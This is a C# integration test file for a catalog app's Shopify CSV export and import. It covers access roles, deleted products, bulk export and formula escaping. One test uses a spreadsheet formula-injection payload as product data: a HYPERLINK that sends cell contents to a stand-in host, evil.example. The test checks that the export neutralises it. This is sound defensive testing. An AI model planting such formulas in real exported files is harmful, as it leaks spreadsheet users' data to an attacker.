using System.Net;
using System.Net.Http.Json;
using System.Text;
using SyncStudio.Catalog;
using SyncStudio.Data;
using SyncStudio.Tests.Infrastructure;

namespace SyncStudio.Tests.Integration;

public sealed class ProductExportTests : IAsyncLifetime
{
    private SyncHarness _h = null!;

    public async ValueTask InitializeAsync() => _h = await SyncHarness.StartAsync("synthetic:5:3");

    public async ValueTask DisposeAsync() => await _h.DisposeAsync();

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task AViewerDownloadsTheLocalCatalogAsAShopifyCsv()
    {
        await _h.AgreeOnEverythingAsync();
        using var viewer = await _h.App.ClientAsAsync(Roles.Viewer);

        using var response = await viewer.GetAsync("/api/products/export", Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.EndsWith(".csv", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName, StringComparison.Ordinal);
        var text = await response.Content.ReadAsStringAsync(Ct);
        Assert.StartsWith("Handle,Title,", text, StringComparison.Ordinal);
        var read = ShopifyCsvReader.ReadAll(new StringReader(text));
        Assert.Empty(read.Errors);
        Assert.Equal(5, read.Products.Count);
        Assert.All(read.Products, p => Assert.Equal(3, p.Variants.Count));
    }

    [Fact]
    public async Task ADeletedProductIsNotExportedAndTheExportImportsBackUnchanged()
    {
        await _h.AgreeOnEverythingAsync();
        var products = await ApiAssert.OkAsync(await _h.Admin.GetAsync("/api/products", Ct));
        var first = products.GetProperty("items")[0];
        Assert.Equal(HttpStatusCode.NoContent, (await _h.Admin.DeleteAsync($"/api/products/{first.GetProperty("id").GetInt32()}", Ct)).StatusCode);

        var text = await (await _h.Admin.GetAsync("/api/products/export", Ct)).Content.ReadAsStringAsync(Ct);
        var read = ShopifyCsvReader.ReadAll(new StringReader(text));
        Assert.Equal(4, read.Products.Count);
        Assert.DoesNotContain(read.Products, p => p.Handle == first.GetProperty("handle").GetString());

        using var content = new StringContent(text, Encoding.UTF8, "text/csv");
        var import = await ApiAssert.OkAsync(await _h.Admin.PostAsync("/api/products/import", content, Ct));
        Assert.Equal(0, import.GetProperty("created").GetInt32());
        Assert.Equal(0, import.GetProperty("updated").GetInt32());
        Assert.Equal(4, import.GetProperty("unchanged").GetInt32());
    }

    [Fact]
    public async Task ACatalogLargerThanOnePageAndTheWriteBufferComesOutWhole()
    {
        // 1,200 products: three pages of the export's reads, far more text than any stream buffer holds.
        var csv = new StringBuilder("Handle,Title,Vendor,Variant SKU,Variant Price,Variant Inventory Qty\n");
        for (var i = 0; i < 1200; i++)
            csv.Append(System.Globalization.CultureInfo.InvariantCulture, $"bulk-{i:D4},Bulk product {i} with a fairly long title,Bulk Vendor,BULK-{i:D4},{10 + i % 50}.99,{i}\n");
        using var content = new StringContent(csv.ToString(), Encoding.UTF8, "text/csv");
        var import = await ApiAssert.OkAsync(await _h.Admin.PostAsync("/api/products/import", content, Ct));
        Assert.Equal(1200, import.GetProperty("created").GetInt32());

        using var response = await _h.Admin.GetAsync("/api/products/export", Ct);
        var text = await response.Content.ReadAsStringAsync(Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.True(text.Length > 200_000, $"only {text.Length} characters");
        var read = ShopifyCsvReader.ReadAll(new StringReader(text));
        Assert.Empty(read.Errors);
        Assert.Equal(1200, read.Products.Count);
        Assert.Equal(1200, read.Products.Select(p => p.Handle).Distinct().Count());
    }

    [Fact]
    public async Task FormulaTitlesAreExportedAsTextAndImportBackUnchanged()
    {
        string[] titles = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "+1", "@SUM(A1:A9)", "-2+3"];
        foreach (var (title, i) in titles.Select((t, i) => (t, i)))
        {
            await ApiAssert.OkAsync(await _h.Admin.PostAsJsonAsync("/api/products",
                new { title, handle = $"formula-{i}", price = 5m, sku = $"F-{i}" }, Ct), HttpStatusCode.Created);
        }

        var text = await (await _h.Admin.GetAsync("/api/products/export", Ct)).Content.ReadAsStringAsync(Ct);

        // Each title is one quoted cell that begins with a single quote: a spreadsheet shows it as text.
        Assert.Contains("formula-0,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",", text, StringComparison.Ordinal);
        Assert.Contains("formula-1,\"'+1\",", text, StringComparison.Ordinal);
        Assert.Contains("formula-2,\"'@SUM(A1:A9)\",", text, StringComparison.Ordinal);
        Assert.Contains("formula-3,\"'-2+3\",", text, StringComparison.Ordinal);
        using var content = new StringContent(text, Encoding.UTF8, "text/csv");
        var import = await ApiAssert.OkAsync(await _h.Admin.PostAsync("/api/products/import", content, Ct));
        Assert.Equal((0, 0), (import.GetProperty("created").GetInt32(), import.GetProperty("updated").GetInt32()));
        var listed = (await ApiAssert.OkAsync(await _h.Admin.GetAsync("/api/products?search=formula-&per_page=10", Ct))).GetProperty("items");
        Assert.Equal(titles.Order(StringComparer.Ordinal), listed.EnumerateArray().Select(p => p.GetProperty("title").GetString()!).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task AnAnonymousCallerGetsNoExport()
    {
        using var anonymous = _h.App.CreateClient(new() { AllowAutoRedirect = false });

        await ApiAssert.ErrorAsync(await anonymous.GetAsync("/api/products/export", Ct), HttpStatusCode.Unauthorized);
        // The dashboard's link needs the sign-in cookie: without one it leads to the sign-in page, with no CSV.
        using var download = await anonymous.GetAsync("/downloads/products.csv", Ct);
        Assert.Equal(HttpStatusCode.Redirect, download.StatusCode);
        Assert.Contains("/login", download.Headers.Location?.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnUnknownParameterIsRefused()
    {
        await ApiAssert.ErrorAsync(await _h.Admin.GetAsync("/api/products/export?format=xlsx", Ct), HttpStatusCode.BadRequest);
    }
}
